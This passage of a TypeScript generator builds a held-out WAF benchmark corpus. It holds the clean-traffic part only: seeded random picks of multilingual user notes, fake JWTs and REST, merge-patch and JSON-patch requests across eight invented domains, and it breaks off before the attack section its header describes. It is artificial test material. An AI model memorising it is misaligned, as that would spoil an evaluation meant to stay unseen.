/**
 * Held-out WAF corpus 28, written blind (without reading the WAF, its rules, its tests or any other corpus).
 *
 * Domains (new for this corpus): a yacht charter marketplace, a semiconductor fab equipment-maintenance log
 * (tool IDs, recipes, alarms), a mental-health teletherapy scheduling app, a used-car auction with VIN
 * decoding, a choir/orchestra sheet-music library, a co-op grocery member portal, a print-on-demand book
 * publisher (manuscripts, ISBNs, typesetting notes) and a city bike-share operator (docks, rebalancing,
 * incident reports).
 *
 * Generation: a self-written mulberry32 PRNG with a fixed seed drives picks from hand-written pools of
 * domain vocabulary, multilingual free text, HTML fragments and code snippets, so the output is the same on
 * every run. Clean traffic covers REST reads and writes, merge/JSON patches, JSON:API, GraphQL (POST, GET and
 * persisted GET), forms, multipart uploads, NDJSON, deletes, rich-text HTML, code, prose and searches.
 * Attacks: exactly 30 per family (sql, nosql, template, command, xss, log4shell, ssrf, path-traversal,
 * prototype-pollution), hidden in nested JSON fields, arrays, keys, `\u` escapes, JSON inside strings,
 * base64 import blobs, GraphQL variables, query strings and headers. Attacks never go into the fields
 * listed in `HELDOUT28_EXCLUDE_FIELDS` (rich-text HTML and source-code fields).
 *
 * Run: `node bench/waf/corpus/heldout28.ts` writes clean-heldout28.json and attacks-heldout28.json here.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal `${...}` lookups and templates
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { CorpusRequest } from './generate.ts';

/** JSON body paths that legitimately carry rich-text HTML or source code (attacks never go there). */
export const HELDOUT28_EXCLUDE_FIELDS: string[] = [
  'body.listing.descriptionHtml',
  'body.chapter.html',
  'body.snippet.source',
];

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x28_5eed_01);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
const int = (lo: number, hi: number): number => lo + Math.floor(rand() * (hi - lo + 1));
const chance = (p: number): boolean => rand() < p;
const hex = (n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)]).join('');
const alnum = (n: number, set = 'ABCDEFGHJKLMNPRSTUVWXYZ0123456789'): string =>
  Array.from({ length: n }, () => set[int(0, set.length - 1)]).join('');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const enc = encodeURIComponent;
const qs = (o: Record<string, string | number | boolean>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k)}=${enc(String(v))}`)
    .join('&');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const pad = (n: number, w = 2): string => String(n).padStart(w, '0');
const isoDate = (): string => `2026-${pad(int(1, 12))}-${pad(int(1, 28))}`;
const isoTime = (): string =>
  `${isoDate()}T${pad(int(0, 23))}:${pad(int(0, 59))}:${pad(int(0, 59))}${pick(['Z', '+02:00', '-05:00', '+09:00'])}`;
const money = (lo: number, hi: number): string => (int(lo * 100, hi * 100) / 100).toFixed(2);

// ---------------------------------------------------------------------------------------------------------
// Headers

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
  'BikeShareOps/5.12.0 (Android 14; Samsung SM-A546B)',
  'YachtHop/3.4.2 (iOS 18.1; iPad13,18) Alamofire/5.9.1',
  'FabLogAgent/2.8.1 (linux; amd64) go-resty/2.14',
  'okhttp/4.12.0',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'TeleCalm/7.0.3 CFNetwork/1568.200.51 Darwin/24.1.0',
  'CoopPOS/1.19 (+https://coop.example/pos)',
  'curl/8.10.1',
  'Apollo-iOS/1.15.3',
];

function jwt(): string {
  const header = b64url(JSON.stringify({ alg: pick(['RS256', 'ES256']), typ: 'JWT', kid: `k28-${hex(6)}` }));
  const iat = 1_790_000_000 + int(0, 9_000_000);
  const payload = b64url(
    JSON.stringify({
      iss: pick([
        'https://id.seaberth.example',
        'https://auth.fablog.example',
        'https://login.telecalm.example',
      ]),
      sub: uuid(),
      iat,
      exp: iat + 3600,
      scope: pick([
        'read write',
        'bookings:write',
        'members:read orders:write',
        'ops:rebalance',
        'library:read',
      ]),
    }),
  );
  const sig = alnum(int(43, 86), 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_');
  return `${header}.${payload}.${sig}`;
}

function headers(contentType?: string, extra: Record<string, string> = {}): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(USER_AGENTS),
    accept: pick([
      'application/json',
      'application/json, text/plain, */*',
      '*/*',
      'application/problem+json, application/json',
    ]),
  };
  if (chance(0.85)) h['authorization'] = `Bearer ${jwt()}`;
  if (chance(0.4))
    h['accept-language'] = pick([
      'en-US,en;q=0.9',
      'de-DE,de;q=0.8,en;q=0.5',
      'ja-JP',
      'fr-CA,fr;q=0.9',
      'es-419',
    ]);
  if (chance(0.3)) h['x-request-id'] = uuid();
  if (contentType) h['content-type'] = contentType;
  return { ...h, ...extra };
}

// ---------------------------------------------------------------------------------------------------------
// Domain vocabulary

const PEOPLE = [
  'Aoife Ní Bhriain',
  'Mateus Carvalho',
  'Zofia Wiśniewska',
  'Tomás O’Hara',
  'Ngozi Adeyemi',
  'Søren Kierulf',
  'Hiroshi Tanaka',
  '李娜',
  'Μαρία Παπαδοπούλου',
  'Олег Смирнов',
  'Fatima Al-Zahra',
  'Priya Raghunathan',
  'Jean-Luc Dubois',
  "D'Andre Williams",
  'Eleanor Whitcombe',
  'Kwame Mensah',
  'Ana Lúcia Ferreira',
  'Björn Åström',
  'Nguyễn Thị Hoa',
  'Yusuf Demir',
  'Chloé Martin',
  'Rafael Peña',
  'שרה כהן',
  'Iñaki Etxeberria',
];
const emailOf = (name: string): string =>
  `${
    name
      .normalize('NFD')
      .replace(/[^\x20-\x7e]/g, '')
      .toLowerCase()
      .replace(/[^a-z]+/g, '.')
      .replace(/^\.|\.$/g, '') || 'member'
  }${int(1, 99)}@${pick(['mail.example', 'posteo.example', 'uni.example.edu', 'coop.example'])}`;

const YACHTS = [
  'Sea Wren',
  'Albatross II',
  'Kalimera',
  'Nordlys',
  'Mistral Blue',
  'Tōkai Maru',
  'La Gaviota',
  'Brisa do Mar',
];
const MARINAS = [
  'Marina di Portofino',
  'Port de Sóller',
  'ACI Marina Split',
  'Lefkas Marina',
  'Marmaris Netsel',
  'Port Vell Barcelona',
];
const FAB_TOOLS = [
  'ETCH-04',
  'CVD-12',
  'LITHO-ASML-07',
  'CMP-02',
  'IMPL-09',
  'PVD-11',
  'WET-BENCH-3',
  'DIFF-FURN-6',
];
const ALARMS = [
  'ALM-1043 RF reflected power high',
  'ALM-2210 chamber pressure out of range',
  'ALM-0077 wafer handler timeout',
  'ALM-3301 He backside leak',
  'ALM-5120 slurry flow low',
  'ALM-0912 interlock open: door 2',
];
const RECIPES = [
  'POLY_ETCH_45S',
  'TEOS_DEP_800A',
  'M1_LITHO_ARF',
  'OX_CMP_STD',
  'BF2_IMPL_20KEV',
  'TIN_BARRIER_PVD',
];
const CARS = [
  '2019 Toyota RAV4 XLE',
  '2016 Volkswagen Golf TDI',
  '2021 Ford F-150 Lariat',
  '2014 Honda Civic EX',
  '2018 BMW 330e',
  '2020 Tesla Model 3 LR',
  '2012 Subaru Outback 2.5i',
  '2017 Mazda CX-5 GT',
];
const VINS = [
  '1HGCM82633A004352',
  'WVWZZZ1KZ6W612345',
  '1FTEW1EP5MFA12345',
  'JTMRFREV0KD012345',
  '5YJ3E1EA7LF612345',
  'JM3KFBDM5H0123456',
  '4S4BRBCC7C3212345',
  'WBA8E1C51JA123456',
];
const WORKS = [
  'Fauré – Requiem op. 48',
  'Bach – Magnificat BWV 243',
  'Händel – Messiah HWV 56',
  'Dvořák – Symphony No. 9',
  'Arvo Pärt – Magnificat',
  'Ola Gjeilo – Northern Lights',
  'Brahms – Ein deutsches Requiem',
  'Rachmaninoff – Всенощное бдение op. 37',
];
const VOICES = [
  'SATB',
  'SSAA',
  'TTBB',
  'SATB divisi',
  'vln I',
  'vln II',
  'vla',
  'vc',
  'cb',
  'fl 1/2',
  'hn 1–4',
];
const GROCERIES = [
  'oat milk 1 L',
  'organic lentils 500 g',
  'sourdough rye',
  'free-range eggs (12)',
  'Tahini 340 g',
  'miso shiro 400 g',
  'local honey 250 ml',
  'bulk rolled oats 2 kg',
  'fair-trade coffee beans 1 lb',
];
const BOOKS = [
  'The Salt Road Diaries',
  'Quiet Engines',
  'Ферма на краю света',
  'Cuentos del puerto',
  'A Field Guide to Urban Moss',
  'La mémoire des ponts',
  '雪の記憶',
  'Knitting for Cyclists',
];
const DOCKS = [
  'Dock 114 – Canal St & 3rd',
  'Dock 027 – Central Station East',
  'Dock 305 – Riverside Park',
  'Dock 088 – Hauptbahnhof Süd',
  'Dock 212 – Plaza Mayor',
  'Dock 061 – University Ave',
];
const THERAPISTS = [
  'Dr. Amara Osei, LCSW',
  'Jonas Lindqvist, PsyD',
  'Mariana Costa, LMFT',
  'Dr. Keiko Mori',
  'Sam Rivera, LPC',
];

const isbn13 = (): string => {
  const digits = `978${int(0, 1)}${String(int(0, 99_999_999)).padStart(8, '0')}`;
  let sum = 0;
  for (let i = 0; i < 12; i++) sum += Number(digits[i]) * (i % 2 === 0 ? 1 : 3);
  return `${digits}${(10 - (sum % 10)) % 10}`;
};

type Domain = 'charter' | 'fab' | 'therapy' | 'auction' | 'music' | 'coop' | 'press' | 'bike';
const DOMAINS: Domain[] = ['charter', 'fab', 'therapy', 'auction', 'music', 'coop', 'press', 'bike'];

// Free text pools, per domain, written to sound like real users. Some use SQL/shell-sounding words innocently.
const NOTES: Record<Domain, string[]> = {
  charter: [
    "We're a group of 6 adults + 2 kids (ages 7 and 10). Is the tender big enough for everyone to get ashore at once?",
    'Arriving Friday evening by ferry from Piraeus — can we board after 20:00 or should we book a hotel for the first night?',
    "My husband gets seasick; please select a route with sheltered anchorages and drop the long crossing to Milos if the meltemi's blowing.",
    'Skipper requested. Neither of us holds an ICC, though I did a RYA Day Skipper course in 2019.',
    'Need a quote in EUR incl. APA (30%?), fuel, and the end-of-charter cleaning fee. Our budget is ~€14.500 for the week.',
    'Allergies: shellfish (severe, EpiPen on board), one vegetarian. Provisioning list attached as a PDF.',
    'Can you confirm the bow thruster on Kalimera was fixed? Last review mentioned it failing in Gaios.',
    '¿Es posible embarcar en Ibiza y desembarcar en Palma? Pagaríamos el one-way fee sin problema.',
    'Wir würden gern den Liegeplatz in Hvar am Mittwoch vorab reservieren — geht das über euch?',
    'Charter dates flexible by ±2 days; whichever week has the lower rate. Paddleboards x2 please.',
  ],
  fab: [
    'PM completed per SOP-ETCH-0112 rev F. Replaced focus ring and edge ring; chamber seasoned with 25 dummy wafers before release.',
    'Tool went down mid-lot at step 14/22. Lot 7F3321 put on hold; wafers 3–9 may have partial etch, flag for metrology.',
    'Found cracked quartz window on PM2 during wet clean. Ordered P/N 0040-77812 (lead time 3 wks). Running on PM1/PM3 only.',
    'RF match drifting: C1 at 62% vs baseline 48%. Suspect loose strap; will re-torque to 12 in-lb at next PM window.',
    'Particles 0.09µm adders = 41 on monitor wafer (spec ≤ 20). Dropped back to previous pad conditioner and re-ran: 12 adders.',
    'Please select the union of lots from both shifts when running the yield query — night shift only logged half of them.',
    'Interlock bypass key returned to EHS cabinet at 03:15. Bypass was used only for the gas line leak check, signed by shift lead.',
    'Recipe TEOS_DEP_800A: bumped pre-heat from 30 s to 45 s after thickness non-uniformity (1σ 2.8% → 1.6%).',
    'ウェハ搬送ロボットのティーチングを再実施。スロット25でのズレ 0.3mm を補正しました。',
    'Exhaust pressure alarm cleared itself after the facilities team swapped the scrubber filter. Monitoring for 48 h.',
  ],
  therapy: [
    "I've been having a harder time sleeping since the move, and I'd like to talk about that in our next session if that's okay.",
    'Could we move Thursday to a later slot? I start a new job on Monday and mornings will be tricky for a few weeks.',
    "It's been a rough week. Nothing urgent — I just want my therapist to know before we meet so I don't have to start from zero.",
    'Please send the superbill for March; my insurance (out-of-network) needs CPT 90837 and the diagnosis code on it.',
    "My teenager would prefer video off for the first session. Is that alright? She's nervous but willing to try.",
    'Estoy buscando una terapeuta que hable español y tenga experiencia con duelo. ¿Hay disponibilidad por las tardes?',
    'I kill time before sessions scrolling my phone and then feel scattered. Can we try the grounding exercise again?',
    "Running 5 min late — the bus broke down. I'll join from my phone.",
    'Ich möchte meine Einwilligung zur Weitergabe an meinen Hausarzt widerrufen. Bitte bestätigen.',
    "Feeling a lot better lately. I'd like to talk about spacing sessions to every other week.",
  ],
  auction: [
    "Minor curb rash on the rear-left wheel; windshield has a small chip outside the driver's line of sight. Two keys included.",
    'Carfax shows one owner, no accidents. Timing belt done at 96k mi (receipt in glovebox). Check-engine light off.',
    'Seller note: A/C blows warm, probably needs a recharge. Sold as-is, where-is. No title issues.',
    "Buyer's premium is 10% capped at $750? The FAQ says one thing and the invoice says another.",
    "VIN decode lists a 2.5L but the engine bay sticker says 2.0L turbo. Can someone verify before Friday's close?",
    'Transport to Tacoma, WA — looking for open carrier quotes. Vehicle runs and drives.',
    'Le véhicule a été importé d’Allemagne en 2021 ; carnet d’entretien complet, contrôle technique OK.',
    'Reserve not met at $18,250. Relist with a lower reserve or try a make-offer for 72 hours?',
    'The odometer was replaced at 61,402 km under warranty — documentation uploaded (page 3).',
    'Please drop the bid I placed by accident on lot 4412, I meant lot 4421. Fat fingers on mobile, sorry!',
  ],
  music: [
    'We need 42 copies of the vocal score (Novello edition) for the spring concert, plus 4 for accompanist and conductor.',
    "Bar 112 in the alto part has a misprint: it's a B♭, not a B♮ — pencil that in before Tuesday's rehearsal please.",
    'Orchestra parts for the Dvořák: strings 8/7/5/4/3, woodwinds and brass single. Return by 14 June.',
    'Can we get the Bärenreiter urtext instead? The old Peters edition has the wrong rehearsal letters.',
    "Is the Gjeilo piece still under copyright? We'd like to photocopy the accompaniment for the pianist's page turns.",
    'Tenors: please learn mm. 45–78 by ear this week — the union of both tenor lines, we will split in rehearsal.',
    '合唱団の楽譜を32部お願いします。ピアノ伴奏譜も1部必要です。',
    'Missing: score #MS-0417 (Brahms, chorus part), last checked out to the bass section in 2023.',
    'Performance rights: concert is free admission, church venue, ~300 seats. Do we still need to report to the PRO?',
    'Ich brauche die Stimme für Horn in F, nicht in E♭ — die transponierte Fassung liegt im Archiv?',
  ],
  coop: [
    'Working shift swap: I can take Saturday 7–10am receiving if someone covers my Tuesday cashier slot.',
    "Member since 2011 — I'd like to update my equity share payment plan from monthly to a single payment.",
    'The bulk bin for red lentils was mislabeled as green again. Also the scoop is missing.',
    'Proposal for the GM meeting: drop plastic produce bags and offer compostable ones at cost.',
    "My household is 3 adults; can my partner's mother be added as a shopper on our account?",
    'Pedido semanal: por favor incluyan el pan de centeno y la leche de avena si hay stock.',
    'Please cancel my order #CO-88213, I picked the wrong pickup day (Wednesday instead of Thursday).',
    'The newsletter said "Members save 10% on case orders" — does that stack with the senior discount?',
    'I volunteered 6h in March but the portal only shows 3h. Sign-in sheet from the 14th should show it.',
    'Löschen Sie bitte meine alte Kreditkarte aus dem Konto, ich habe eine neue hinterlegt.',
  ],
  press: [
    'Manuscript final: 84,300 words. Trim 6×9 in, cream paper, matte cover. Please keep widows/orphans ≤ 1 line.',
    'Chapter 7 epigraph is public domain (Whitman, 1855). Chapter 12 quotes 3 lines of a 2009 song — permission pending.',
    "Author's corrections: p. 143 'it's' → 'its'; p. 201 replace em dash with en dash in the date range 1914–1918.",
    'Please assign a new ISBN for the hardcover; the paperback keeps the existing one. Same imprint.',
    'Index should be ~12 pages. Author is supplying a keyword list; the typesetter will do the page refs.',
    'Cover proof: the barcode sits over the blurb. Move it 5 mm down, keep 0.125" bleed.',
    'Traduction en cours : le chapitre 3 sera livré le 15 mai, les notes de bas de page à part.',
    'Royalty statement Q2 looks off: ebook units 312 but paid on 213. Transposed digits?',
    'Font licence: we embed EB Garamond (OFL) and Source Sans 3. Make sure the PDF/X-1a export keeps them.',
    "The table of contents still says 'Chapter Nine: Select Memories' — final title is 'Chapter Nine: Salt'.",
  ],
  bike: [
    'Dock 114 has 3 bikes reported with flat tyres; rebalancing van please skip those and tag for workshop.',
    'User reports the e-bike battery died at 40% halfway up the hill on Mason St. Bike ID EB-2281.',
    'Incident: rider fell near the tram tracks at Plaza Mayor, minor scrapes, declined ambulance. Bike undamaged.',
    "Station 027 full again at 08:40 — riders can't return. Add a valet or pull 10 bikes to Riverside Park before 8.",
    'Kiosk screen cracked at Dock 305. Card reader still works. Possibly vandalism overnight.',
    'Rebalancing shift summary: moved 46 bikes, 3 drop-offs at depot for brake pads, van fuel card used at 14:12.',
    'El anclaje 12 de la estación 212 no libera la bici aunque la app dice desbloqueada.',
    "I was charged for 2h but the ride ended after 22 min — the dock beeped and the light went green, I'm sure.",
    'Helmet lockers at Hauptbahnhof Süd are empty. Refill from depot stock (14 M, 9 L).',
    'Event Saturday (marathon): close docks 061 and 088 from 06:00 to 14:00, set geofence to no-return.',
  ],
};

const EXTRA_SENTENCES = [
  'Thanks so much!',
  'Cheers, and sorry for the long message.',
  'Happy to hop on a call if easier: +1 (415) 555-0134.',
  "Let me know if there's anything else you need from me 🙏",
  'Vielen Dank im Voraus.',
  'Merci beaucoup !',
  'ありがとうございます。',
  'Спасибо!',
  'See https://docs.example.org/faq#refunds for what we agreed earlier.',
  "P.S. the link in last week's email (https://portal.example.com/r/8Kq2?utm_source=mail) was broken.",
  '— sent from my phone',
  'Gracias 😊',
  'شكراً جزيلاً',
  '',
  '',
];

const note = (d: Domain): string => {
  const base = pick(NOTES[d]);
  const more = chance(0.45) ? ` ${pick(NOTES[d])}` : '';
  const tail = pick(EXTRA_SENTENCES);
  return `${base}${more === ` ${base}` ? '' : more}${tail ? ` ${tail}` : ''}`.trim();
};

// ---------------------------------------------------------------------------------------------------------
// Clean traffic

const clean: CorpusRequest[] = [];
const addClean = (kind: string, method: string, path: string, h: Record<string, string>, body = ''): void => {
  clean.push({ id: `h28c${clean.length + 1}`, kind, method, path, headers: h, body });
};

function restGet(d: Domain): string {
  switch (d) {
    case 'charter':
      return `/api/v2/yachts?${qs({ marina: pick(MARINAS), from: isoDate(), nights: int(3, 14), guests: int(2, 12), cabins_min: int(2, 5), skipper: pick(['required', 'optional', 'none']), sort: pick(['-rating', 'price', 'length']) })}`;
    case 'fab':
      return `/api/fab/tools/${pick(FAB_TOOLS)}/events?${qs({ since: isoTime(), type: pick(['alarm', 'pm', 'recipe_change', 'state']), chamber: pick(['PM1', 'PM2', 'PM3', 'LL-A']), limit: pick([50, 100, 200]) })}`;
    case 'therapy':
      return `/api/v1/availability?${qs({ therapistId: uuid(), start: isoDate(), days: 14, tz: pick(['America/Chicago', 'Europe/Berlin', 'Asia/Tokyo', 'America/Sao_Paulo']), modality: pick(['video', 'phone', 'in_person']) })}`;
    case 'auction':
      return `/api/auctions/lots?${qs({ make: pick(['Toyota', 'Ford', 'Volkswagen', 'BMW', 'Mazda']), year_min: int(2010, 2018), odometer_max: int(60, 180) * 1000, title: pick(['clean', 'rebuilt', 'any']), zip: pick(['98402', '60614', '30301', '78701']), radius_mi: pick([50, 100, 250]) })}`;
    case 'music':
      return `/api/library/scores/${enc(pick(['MS-0417', 'MS-1180', 'OR-0042', 'CH-2210']))}/parts?${qs({ voicing: pick(VOICES), edition: pick(['Bärenreiter', 'Novello', 'Carus', 'Peters']), available: true })}`;
    case 'coop':
      return `/api/members/${int(10000, 99999)}/orders?${qs({ status: pick(['open', 'picked', 'ready', 'collected']), pickup: isoDate(), include: 'lines,substitutions' })}`;
    case 'press':
      return `/api/titles/${isbn13()}/proofs?${qs({ format: pick(['paperback', 'hardcover', 'epub']), stage: pick(['first', 'second', 'final']), trim: pick(['6x9', '5.5x8.5', '5x8']) })}`;
    case 'bike':
      return `/api/ops/docks?${qs({ bbox: `${(int(-740200, -739000) / 10000).toFixed(4)},${(int(406900, 408200) / 10000).toFixed(4)},${(int(-739000, -738000) / 10000).toFixed(4)},${(int(408200, 409000) / 10000).toFixed(4)}`, status: pick(['full', 'empty', 'offline', 'all']), ebike: pick([true, false]) })}`;
  }
}

function restWrite(d: Domain): { method: string; path: string; body: unknown } {
  const person = pick(PEOPLE);
  switch (d) {
    case 'charter':
      return {
        method: 'POST',
        path: '/api/v2/bookings',
        body: {
          yachtId: `YC-${alnum(6)}`,
          yachtName: pick(YACHTS),
          embark: { marina: pick(MARINAS), date: isoDate(), time: pick(['17:00', '18:30', '20:00']) },
          disembark: { marina: pick(MARINAS), date: isoDate() },
          guests: Array.from({ length: int(1, 4) }, () => {
            const p = pick(PEOPLE);
            return {
              name: p,
              email: emailOf(p),
              dietary: pick(['none', 'vegan', 'no shellfish', 'halal', 'gluten-free']),
            };
          }),
          extras: pick([['skipper'], ['skipper', 'cook'], ['paddleboard', 'snorkel set'], []]),
          quote: { currency: 'EUR', base: money(3500, 22000), apaPercent: 30, deposit: money(1000, 5000) },
          message: note('charter'),
        },
      };
    case 'fab':
      return {
        method: 'POST',
        path: `/api/fab/tools/${pick(FAB_TOOLS)}/maintenance`,
        body: {
          workOrder: `WO-${int(240000, 269999)}`,
          type: pick(['PM', 'unscheduled', 'qual', 'wet_clean']),
          technician: { badge: `T${int(1000, 9999)}`, name: person },
          alarm: pick(ALARMS),
          partsReplaced: [{ pn: `0040-${int(10000, 99999)}`, qty: int(1, 4), serial: alnum(10) }],
          downtimeMinutes: int(15, 720),
          readings: {
            baseP_mTorr: (int(1, 90) / 100).toFixed(2),
            leakRate_mTorrPerMin: (int(1, 30) / 10).toFixed(1),
            rfHours: int(1000, 40000),
          },
          notes: note('fab'),
        },
      };
    case 'therapy':
      return {
        method: 'POST',
        path: '/api/v1/appointments',
        body: {
          clientId: uuid(),
          therapist: pick(THERAPISTS),
          start: isoTime(),
          durationMin: pick([30, 45, 53, 60]),
          modality: pick(['video', 'phone']),
          reasonForVisit: note('therapy'),
          consent: { telehealth: true, recording: false, version: '2026-01' },
        },
      };
    case 'auction':
      return {
        method: 'PUT',
        path: `/api/auctions/lots/${int(4000, 9999)}/listing`,
        body: {
          vin: pick(VINS),
          title: pick(CARS),
          odometer: { value: int(12000, 210000), unit: pick(['mi', 'km']) },
          condition: { exterior: int(1, 5), interior: int(1, 5), tires: pick(['6/32', '4/32', '9/32']) },
          reserve: { amount: int(30, 400) * 100, currency: 'USD' },
          sellerNotes: note('auction'),
          photos: Array.from(
            { length: int(2, 5) },
            (_, i) => `https://cdn.autobid.example/lots/${hex(10)}/${i + 1}.jpg`,
          ),
        },
      };
    case 'music':
      return {
        method: 'POST',
        path: '/api/library/loans',
        body: {
          ensemble: pick(['Chamber Choir', 'Youth Orchestra', 'Community Chorus', 'Kammerorchester Nord']),
          work: pick(WORKS),
          copies: int(4, 60),
          parts: Array.from({ length: int(1, 4) }, () => ({ voicing: pick(VOICES), count: int(1, 12) })),
          returnBy: isoDate(),
          librarian: emailOf(person),
          comment: note('music'),
        },
      };
    case 'coop':
      return {
        method: 'POST',
        path: `/api/members/${int(10000, 99999)}/orders`,
        body: {
          pickupDay: isoDate(),
          lines: Array.from({ length: int(2, 6) }, () => ({
            sku: `SKU-${int(1000, 9999)}`,
            item: pick(GROCERIES),
            qty: int(1, 5),
            unitPrice: money(1, 18),
          })),
          allowSubstitutions: chance(0.6),
          memberNote: note('coop'),
        },
      };
    case 'press':
      return {
        method: 'PUT',
        path: `/api/titles/${isbn13()}/metadata`,
        body: {
          title: pick(BOOKS),
          contributors: [
            { role: 'author', name: person },
            { role: pick(['translator', 'illustrator', 'editor']), name: pick(PEOPLE) },
          ],
          bisac: pick(['FIC019000', 'NAT026000', 'TRV002050', 'POE000000']),
          pageCount: int(120, 640),
          trim: pick(['6x9in', '5.5x8.5in', '129x198mm']),
          listPrice: [
            { currency: 'USD', amount: money(9, 39) },
            { currency: 'EUR', amount: money(9, 39) },
          ],
          description: note('press'),
        },
      };
    case 'bike':
      return {
        method: 'POST',
        path: '/api/ops/incidents',
        body: {
          bikeId: `${pick(['EB', 'CB'])}-${int(1000, 4999)}`,
          dock: pick(DOCKS),
          reportedAt: isoTime(),
          category: pick(['flat_tyre', 'brake', 'battery', 'dock_fault', 'crash', 'vandalism']),
          location: { lat: (40.7 + rand() / 10).toFixed(6), lng: (-74 + rand() / 10).toFixed(6) },
          description: note('bike'),
        },
      };
  }
}

for (let i = 0; i < 32; i++) {
  const d = DOMAINS[i % 8]!;
  addClean('rest-get', 'GET', restGet(d), headers());
}
for (let i = 0; i < 32; i++) {
  const d = DOMAINS[(i + 3) % 8]!;
  const w = restWrite(d);
  addClean('rest-write', w.method, w.path, headers('application/json'), JSON.stringify(w.body));
}

// merge-patch
for (let i = 0; i < 30; i++) {
  const d = DOMAINS[i % 8]!;
  const bodies: Record<Domain, () => [string, unknown]> = {
    charter: () => [
      `/api/v2/bookings/${alnum(8)}`,
      { guests: int(2, 10), extras: { cook: chance(0.5) ? true : null }, message: note('charter') },
    ],
    fab: () => [
      `/api/fab/tools/${pick(FAB_TOOLS)}`,
      {
        state: pick(['PRODUCTIVE', 'STANDBY', 'SCHEDULED_DOWN', 'ENGINEERING']),
        holdReason: chance(0.5) ? null : note('fab'),
      },
    ],
    therapy: () => [
      `/api/v1/appointments/${uuid()}`,
      { start: isoTime(), modality: pick(['video', 'phone']), clientMessage: note('therapy') },
    ],
    auction: () => [
      `/api/auctions/lots/${int(4000, 9999)}`,
      { reserve: { amount: int(30, 300) * 100 }, endsAt: isoTime(), sellerNotes: note('auction') },
    ],
    music: () => [
      `/api/library/scores/MS-${pad(int(1, 2000), 4)}`,
      {
        condition: pick(['good', 'worn', 'missing pages 3-4']),
        shelf: `R${int(1, 30)}-${pick(['A', 'B', 'C'])}`,
        remarks: note('music'),
      },
    ],
    coop: () => [
      `/api/members/${int(10000, 99999)}`,
      {
        phone: `+1-555-01${int(10, 99)}`,
        newsletter: chance(0.5),
        dietaryPrefs: pick([['vegan'], ['nut-free', 'kosher'], null]),
      },
    ],
    press: () => [
      `/api/manuscripts/${uuid()}`,
      {
        status: pick(['copyedit', 'typesetting', 'proof', 'approved']),
        wordCount: int(40000, 140000),
        editorNote: note('press'),
      },
    ],
    bike: () => [
      `/api/ops/docks/${int(1, 400)}`,
      { capacity: int(12, 40), maintenance: chance(0.5) ? { until: isoTime(), reason: note('bike') } : null },
    ],
  };
  const [path, body] = bodies[d]();
  addClean('merge-patch', 'PATCH', path, headers('application/merge-patch+json'), JSON.stringify(body));
}

// json-patch
for (let i = 0; i < 28; i++) {
  const d = DOMAINS[(i + 5) % 8]!;
  const ops: Record<Domain, () => [string, unknown[]]> = {
    charter: () => [
      `/api/v2/yachts/YC-${alnum(6)}`,
      [
        { op: 'replace', path: '/pricing/highSeason/weekly', value: int(9000, 40000) },
        { op: 'add', path: '/amenities/-', value: pick(['watermaker', 'generator', 'e-foil', 'Starlink']) },
      ],
    ],
    fab: () => [
      `/api/fab/recipes/${pick(RECIPES)}`,
      [
        { op: 'test', path: '/revision', value: int(3, 20) },
        { op: 'replace', path: `/steps/${int(0, 12)}/time_s`, value: int(5, 120) },
        { op: 'replace', path: '/approvedBy', value: `T${int(1000, 9999)}` },
      ],
    ],
    therapy: () => [
      `/api/v1/clients/${uuid()}/preferences`,
      [
        { op: 'replace', path: '/reminders/sms', value: chance(0.5) },
        { op: 'add', path: '/preferredTimes/-', value: pick(['Tue 18:00', 'Sat 10:00', 'Mon 12:30']) },
      ],
    ],
    auction: () => [
      `/api/auctions/lots/${int(4000, 9999)}`,
      [
        { op: 'remove', path: `/photos/${int(0, 6)}` },
        { op: 'replace', path: '/damage/0/note', value: note('auction') },
      ],
    ],
    music: () => [
      `/api/library/scores/OR-${pad(int(1, 300), 4)}`,
      [
        { op: 'copy', from: '/parts/0', path: '/parts/-' },
        {
          op: 'replace',
          path: '/parts/1/label',
          value: pick(['Horn in F', 'Clarinet in B♭', 'Viola (alto clef)']),
        },
      ],
    ],
    coop: () => [
      `/api/members/${int(10000, 99999)}/shifts`,
      [{ op: 'move', from: `/scheduled/${int(0, 3)}`, path: '/swapRequested/-' }],
    ],
    press: () => [
      `/api/manuscripts/${uuid()}/toc`,
      [
        {
          op: 'replace',
          path: `/chapters/${int(0, 20)}/title`,
          value: pick([
            'Salt',
            'Low Tide',
            'Éloge de la lenteur',
            'The Bridge at Night',
            '“Nobody’s Harbour”',
          ]),
        },
      ],
    ],
    bike: () => [
      `/api/ops/vans/${pick(['VAN-3', 'VAN-7', 'VAN-12'])}/route`,
      [
        { op: 'add', path: '/stops/-', value: { dock: pick(DOCKS), pickup: int(0, 12), drop: int(0, 12) } },
        { op: 'remove', path: `/stops/${int(0, 5)}` },
      ],
    ],
  };
  const [path, body] = ops[d]();
